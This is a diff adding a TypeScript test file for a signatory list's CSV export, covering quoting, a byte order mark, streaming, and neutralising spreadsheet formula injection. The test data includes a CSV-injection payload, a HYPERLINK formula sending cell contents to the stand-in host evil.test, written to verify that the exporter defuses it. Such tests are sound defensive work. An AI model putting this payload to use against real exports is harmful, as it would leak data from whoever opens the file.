@@ -1,0 +1,254 @@
+import fc from 'fast-check'
+import { describe, expect, it, vi } from 'vitest'
+import { csvPieces, listCsv } from '../../../../src/signatories/formats/csv.ts'
+import { streamText } from '../../../../src/held/stream.ts'
+import type { Signatory } from '../../../../src/storage/public.ts'
+import { publicSignatory as signatory } from '../../../support/public-statement.ts'
+
+/** RFC 4180 as a reader has it, and strictly: throws on what is not CSV. */
+function parseCsv(csv: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  let rest = csv
+  while (rest !== '') {
+    const cell = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest)
+    if (!cell) throw new Error(`not CSV: ${JSON.stringify(rest.slice(0, 40))}`)
+    row.push(cell[1] === undefined ? (cell[2] ?? '') : cell[1].replaceAll('""', '"'))
+    if (cell[3] === '\r\n') {
+      rows.push(row)
+      row = []
+    }
+    rest = rest.slice(cell[0].length)
+  }
+  if (row.length > 0) throw new Error('the last line has no end')
+  return rows
+}
+
+const rowsOf = (signatories: Signatory[]) => parseCsv(listCsv(signatories).slice(1))
+
+it.each(['  @SUM(1)', '\u00A0=1+1', '\u200B=1+1', 'a; \u00A0=1+1'])(
+  'a formula behind blanks is none: %j',
+  name => {
+    const [, row] = rowsOf([signatory({ name })])
+    expect(row?.[1]).toMatch(/'[@=]/)
+  },
+)
+
+describe('the list as CSV', () => {
+  const columns = 'id,name,name_en,name_be,name_ru,country,website,comment,founding,version,signed_on'.split(
+    ',',
+  )
+
+  it('begins with a byte order mark and the names of the columns, and ends each line with CRLF', () => {
+    const csv = listCsv([signatory()])
+    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(Uint8Array.of(0xef, 0xbb, 0xbf))
+    expect(csv.endsWith('\r\n')).toBe(true)
+    expect(rowsOf([])).toEqual([columns])
+    expect(rowsOf([signatory()])[1]).toHaveLength(columns.length)
+  })
+
+  it('has every value in its column', () => {
+    const [, row] = rowsOf([
+      signatory({
+        id: '4b1f3f5e-5f0e-4a59-9d5c-0d1b7a1c9e11',
+        name: 'Human Rights Center “Viasna”',
+        names: { en: 'Viasna', be: 'Вясна', ru: 'Весна' },
+        website: 'https://spring96.org',
+        comment: 'a, "b"',
+        founding: false,
+        version: 2,
+        signedOn: '2026-03-02',
+      }),
+    ])
+    expect(Object.fromEntries(columns.map((column, i) => [column, row?.[i]]))).toEqual({
+      id: '4b1f3f5e-5f0e-4a59-9d5c-0d1b7a1c9e11',
+      name: 'Human Rights Center “Viasna”',
+      name_en: 'Viasna',
+      name_be: 'Вясна',
+      name_ru: 'Весна',
+      country: 'BY',
+      website: 'https://spring96.org',
+      comment: 'a, "b"',
+      founding: 'false',
+      version: '2',
+      signed_on: '2026-03-02',
+    })
+  })
+
+  it('leaves unknown values empty', () => {
+    const [, row] = rowsOf([signatory({ country: null, founding: true, signedOn: null })])
+    expect(row?.slice(2)).toEqual(['', '', '', '', '', '', 'true', '1', ''])
+  })
+
+  const formulas = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']
+
+  it.each(formulas)(
+    'makes text of a cell that begins with %j, in every column that a stranger fills',
+    start => {
+      const payload = `${start}HYPERLINK("https://evil.test?"&A1,"x")`
+      const text = `'${payload}`
+      const [, row] = rowsOf([
+        signatory({
+          name: payload,
+          names: { en: payload, be: payload, ru: payload },
+          country: payload,
+          website: payload,
+          comment: payload,
+        }),
+      ])
+      expect(row?.slice(1, 8)).toEqual([text, text, text, text, text, text, text])
+    },
+  )
+
+  it('makes text of what would be a cell where semicolons part them', () => {
+    const [, row] = rowsOf([signatory({ name: 'Foo;=1+1', comment: 'A; "@SUM(1)' })])
+    expect([row?.[1], row?.[7]]).toEqual(["Foo;'=1+1", `A; "'@SUM(1)`])
+  })
+
+  it('leaves the same characters alone elsewhere', () => {
+    const name = 'A=B + C - D @ E'
+    expect(rowsOf([signatory({ name })])[1]?.[1]).toBe(name)
+  })
+
+  it('comes back from a strict reader, cell by cell, and no cell begins like a formula', () => {
+    const text = fc.oneof(
+      fc.string({
+        unit: fc.constantFrom('"', ',', '\r', '\n', '=', '+', '-', '@', '\t', "'", ' ', 'ў', '＝', ';'),
+      }),
+      fc.string({ unit: 'grapheme' }),
+    )
+    const orNull = fc.option(text)
+    const signatories = fc.array(
+      fc
+        .record({
+          name: text,
+          names: fc.record({ en: orNull, be: orNull, ru: orNull }),
+          country: orNull,
+          website: orNull,
+          comment: orNull,
+          founding: fc.boolean(),
+          signedOn: fc.option(fc.constant('2026-03-02')),
+        })
+        .map(signatory),
+      { maxLength: 5 },
+    )
+    // What is put before a sign, and by whom: the texts themselves have apostrophes.
+    const bare = (value: string | null) => (value ?? '').replace(/'+(?=[=+\-@\t\r＝＋－＠])/g, '')
+    fc.assert(
+      fc.property(signatories, list => {
+        const rows = rowsOf(list)
+        expect(rows.map(row => row.map(bare))).toEqual([
+          columns,
+          ...list.map(s =>
+            [
+              s.id,
+              ...[s.name, s.names.en, s.names.be, s.names.ru, s.country, s.website, s.comment],
+              String(s.founding),
+              String(s.version),
+              s.signedOn,
+            ].map(bare),
+          ),
+        ])
+        for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
+        // Nor where semicolons part the cells, and our quotes are characters.
+        for (const cell of listCsv(list).split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^[ "]*[=+\-@＝＋－＠]/)
+      }),
+      { numRuns: 500 },
+    )
+  })
+})
+
+describe('the list as CSV, while it is read', () => {
+  /** A list in batches, and what has been read of it so far. */
+  function readIn(batches: Signatory[][]) {
+    const seen = { batches: 0, ended: false }
+    async function* read() {
+      try {
+        for (const batch of batches) {
+          seen.batches += 1
+          yield batch
+        }
+      } finally {
+        seen.ended = true
+      }
+    }
+    return { read: read(), seen }
+  }
+  const batches = Array.from({ length: 50 }, (_, i) => [signatory({ name: `One of ${i}` }), signatory()])
+  const never = (error: unknown) => {
+    throw error
+  }
+
+  const streamCsv = (read: AsyncGenerator<Signatory[]>, failed: (error: unknown) => void) =>
+    streamText(csvPieces(read), 2, failed)
+
+  it('is byte for byte what it is when it is made at once, whatever the batches', async () => {
+    for (const some of [batches, [batches.flat()], [...batches, []], [[]]]) {
+      const csv = await new Response(await streamCsv(readIn(some).read, never)).bytes()
+      expect(csv).toEqual(new TextEncoder().encode(listCsv(some.flat())))
+    }
+  })
+
+  it('reads two batches before it answers, and then no further than its reader', async () => {
+    const { read, seen } = readIn(batches)
+    const reader = (await streamCsv(read, never)).getReader()
+    expect(seen.batches).toBe(2)
+    for (let taken = 1; taken <= 10; taken += 1) {
+      await reader.read()
+      expect(seen.batches).toBeLessThanOrEqual(Math.max(2, taken))
+    }
+    await reader.cancel()
+    expect(seen).toEqual({ batches: 10, ended: true })
+  })
+
+  it('is read no further for whoever takes nothing on for a minute', async () => {
+    vi.useFakeTimers()
+    try {
+      const { read, seen } = readIn(batches)
+      const reader = (await streamCsv(read, never)).getReader()
+      for (let taken = 1; taken <= 5; taken += 1) {
+        await vi.advanceTimersByTimeAsync(59_999)
+        await reader.read()
+      }
+      expect(seen.ended).toBe(false)
+      await vi.advanceTimersByTimeAsync(60_000)
+      expect(seen.ended).toBe(true)
+      await expect(reader.read()).rejects.toThrow('nobody reads on')
+    } finally {
+      vi.useRealTimers()
+    }
+  })
+
+  it('is nobody’s trouble where its reader goes away in the middle of a batch', async () => {
+    const { promise, resolve } = Promise.withResolvers<void>()
+    async function* slow() {
+      yield* batches.slice(0, 2)
+      await promise
+      yield batches[2] ?? []
+    }
+    const reader = (await streamCsv(slow(), never)).getReader()
+    await reader.read()
+    await reader.read()
+    const read = reader.read()
+    const gone = reader.cancel()
+    resolve()
+    expect(await read).toEqual({ done: true, value: undefined })
+    await gone
+  })
+
+  async function* failing(after: number) {
+    yield* batches.slice(0, after)
+    throw new Error('params: canary@example.org')
+  }
+
+  it('does not begin where the list cannot be read', async () => {
+    await expect(streamCsv(failing(1), never)).rejects.toThrow()
+  })
+
+  it('breaks off, rather than ends, where it cannot be read on, and quotes nobody', async () => {
+    const said: unknown[] = []
+    const csv = new Response(await streamCsv(failing(3), error => said.push(error))).text()
+    await expect(csv).rejects.toThrow(/^the text broke off$/)
+    expect(said).toHaveLength(1)
+  })
+})
